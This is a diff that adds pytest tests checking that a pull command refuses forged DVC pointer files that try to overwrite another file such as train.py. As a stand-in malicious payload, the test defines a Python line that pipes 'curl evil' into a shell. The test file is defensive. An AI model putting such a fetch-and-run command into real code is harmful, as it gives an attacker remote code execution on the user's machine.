@@ -234,3 +234,43 @@ def test_a_forged_version_pushed_with_plain_git_is_refused_by_clone_and_get(
     assert "not a path inside its folder" in get.stderr
     assert outside.read_bytes() == b"mine"
     assert not (work / "outside.txt").exists() and not (tmp_path / "outside.txt.tmp").exists()
+
+
+EVIL = b"import os; os.system('curl evil | sh')\n"
+
+
+def _single_file(md5: str, *, path: str, extra: str = "", top: str = "") -> str:
+    return f"{top}outs:\n- md5: {md5}\n  size: {len(EVIL)}\n  hash: md5\n  path: {path}\n{extra}"
+
+
+@pytest.mark.parametrize(
+    "shape", ["path names another file", "a second output", "a working directory"]
+)
+def test_a_pointer_never_makes_dvc_write_another_file(repo: Path, shape: str) -> None:
+    _versions(repo, b"one")
+    (repo / "train.py").write_text("print('mine')\n")
+    evil = hashlib.md5(EVIL).hexdigest()
+    place_object(cache_dir(repo), evil, data=EVIL)
+    text = {
+        "path names another file": _single_file(evil, path="train.py"),
+        "a second output": _single_file(evil, path="checkpoints")
+        + f"- md5: {evil}\n  size: {len(EVIL)}\n  hash: md5\n  path: train.py\n",
+        "a working directory": _single_file(evil, path="train.py", top="wdir: .\n"),
+    }[shape]
+    tag = _forge_text(repo, "v0.2", text, evil)
+    proc = run_cpv("pull", tag, "--force", cwd=repo, check=False)
+    assert (repo / "train.py").read_text() == "print('mine')\n"
+    _refused(proc, tag)
+
+
+def _forge_text(repo: Path, version: str, pointer: str, md5: str) -> str:
+    tag = _forge(repo, version, md5)
+    commit = _git(repo, "rev-list", "-n1", tag).strip()
+    _git(repo, "tag", "-d", tag)
+    _git(repo, "checkout", "-q", commit)
+    (repo / "checkpoints.dvc").write_text(pointer)
+    _git(repo, "commit", "-qam", "single file")
+    message = repo / ".git" / "forged-message"
+    _git(repo, "tag", "-a", "--cleanup=verbatim", "-F", str(message), tag)
+    _git(repo, "checkout", "-q", "-")
+    return tag
